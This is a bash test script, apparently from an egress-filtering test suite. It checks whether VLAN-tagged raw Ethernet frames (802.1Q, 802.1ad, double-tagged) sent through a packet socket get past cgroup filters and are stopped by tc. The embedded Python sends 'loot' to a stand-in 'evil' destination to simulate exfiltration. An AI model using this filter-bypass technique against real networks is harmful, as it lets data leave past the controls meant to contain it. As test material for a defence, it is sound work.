#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: tags frames for a VLAN, once and twice, 802.1Q and 802.1ad, and sends by a VLAN interface of its own, to evil and to allowed destinations
# stopped-by: tc
# reason: packet_socket
# kernels: all
. "$(dirname "$0")/../interfaces/lib.sh"
container udp/9000
# A socket on a VLAN interface passes the cgroup's programs with an allowed destination.
MADE=
if ip -n "$CLIENT" link add link eth0 name vlan5 type vlan id 5 2>/dev/null; then
	MADE=interface
	ip -n "$CLIENT" link set vlan5 up
	ip -n "$CLIENT" neighbour add 198.51.100.77 lladdr 02:00:00:00:00:77 dev vlan5
	ip -n "$CLIENT" route add 198.51.100.77/32 dev vlan5
fi

attack_by <<'PYTHON'
from attacker import *

def tagged(*tags):
    tags = b"".join(struct.pack("!HH", *tag) for tag in tags)
    return lambda address, tag: b"\xff" * 6 + b"\2\0\0\0\0\7" + tags + b"\x08\x00" + \
        ip4(address, 17, udp_body(address, 9000, loot(tag)))

sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
sock.bind(("eth0", 0))
ready()
for address, name in (EVIL4, "evil"), (GOOD4, "good"):
    with attempt(f"VLAN tags to {name}"):
        sock.send(tagged((0x8100, 5))(address, f"one-{name}"))
        sock.send(tagged((0x88A8, 5))(address, f"service-{name}"))
        sock.send(tagged((0x8100, 0))(address, f"priority-{name}"))
        sock.send(tagged((0x88A8, 5), (0x8100, 6))(address, f"two-{name}"))
if "interface" in sys.argv:
    with attempt("VLAN interface"):
        udp(GOOD4).sendto(loot("interface"), ("198.51.100.77", 9000))
PYTHON
expected=(stolen:{one,service,priority,two}-{evil,good})
[[ -z $MADE ]] || expected+=("stolen:$MADE")
ATTACK+=("$MADE")
works_once_open "${expected[@]}"
gate_with_vlan() { gate_by --allow 198.51.100.77/32=udp/9000; }
stopped_once_open gate_with_vlan
recorded tc packet_socket
